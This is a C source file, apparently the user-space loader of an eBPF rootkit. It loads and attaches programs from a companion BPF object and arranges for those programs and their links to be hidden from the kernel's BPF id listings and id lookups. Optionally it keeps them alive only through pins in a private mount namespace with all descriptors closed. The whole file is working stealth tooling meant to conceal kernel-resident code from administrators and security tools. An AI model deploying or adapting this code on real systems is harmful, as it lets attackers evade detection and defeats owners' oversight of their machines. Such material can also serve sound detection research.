// usage: rootkit OBJECT ids|programs|pins
// Attaches the programs of rootkit.bpf.c, and waits. `ids` hides programs and links from lists, `programs` also from
// those who open them by their ids; `pins` keeps them only by pins in a mount namespace of its own, without a descriptor.
#define _GNU_SOURCE
#include <bpf/bpf.h>
#include <bpf/libbpf.h>
#include <err.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static unsigned int program_id(int fd)
{
	struct bpf_prog_info info = {};
	unsigned int size = sizeof(info);

	if (bpf_prog_get_info_by_fd(fd, &info, &size) != 0)
		err(1, "information of a program");
	return info.id;
}

static unsigned int link_id(int fd)
{
	struct bpf_link_info info = {};
	unsigned int size = sizeof(info);

	if (bpf_link_get_info_by_fd(fd, &info, &size) != 0)
		err(1, "information of a link");
	return info.id;
}

/* The id after the last one of a list: what comes now is hidden from there on. */
static unsigned int next_id(int (*next)(unsigned int, unsigned int *))
{
	unsigned int id = 0;

	while (next(id, &id) == 0)
		;
	return id + 1;
}

int main(int argc, char **argv)
{
	const char *way = argc == 3 ? argv[2] : "";
	int hides_programs = strcmp(way, "ids") != 0, pins = strcmp(way, "pins") == 0;
	unsigned int hidden[4] = { next_id(bpf_prog_get_next_id), 0, next_id(bpf_link_get_next_id), 0 };
	struct bpf_object *object;
	struct bpf_program *program;
	struct bpf_link *links[2];
	int count = 0;
	unsigned long size;
	unsigned int *data;

	object = bpf_object__open(argv[1]);
	if (object == NULL)
		err(1, "opening %s", argv[1]);
	bpf_object__for_each_program(program, object)
		if (!hides_programs && strcmp(bpf_program__name(program), "hide_program") == 0)
			bpf_program__set_autoload(program, false);
	if (bpf_object__load(object) != 0)
		err(1, "loading");
	bpf_object__for_each_program(program, object) {
		unsigned int id;

		if (!bpf_program__autoload(program))
			continue;
		id = program_id(bpf_program__fd(program));
		printf("program %u %s\n", id, bpf_program__name(program));
		hidden[1] = id;
		links[count] = bpf_program__attach(program);
		if (links[count] == NULL)
			err(1, "attaching %s", bpf_program__name(program));
		id = link_id(bpf_link__fd(links[count++]));
		printf("link %u\n", id);
		hidden[3] = id;
	}
	if (pins) {
		if (unshare(CLONE_NEWNS) != 0 || mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0 ||
		    (mkdir("/hidden", 0700), mount("bpf", "/hidden", "bpf", 0, NULL)) != 0)
			err(1, "a mount namespace of its own");
		for (int at = 0; at < count; at++) {
			char path[] = "/hidden/0";

			path[sizeof(path) - 2] = '0' + at;
			if (bpf_link__pin(links[at], path) != 0)
				err(1, "pinning");
		}
	}
	data = bpf_map__initial_value(bpf_object__find_map_by_name(object, ".bss"), &size);
	memcpy(data, hidden, sizeof(hidden));
	if (pins)
		for (int fd = 3; fd < 256; fd++)
			close(fd);
	printf("ready\n");
	fflush(stdout);
	pause();
}
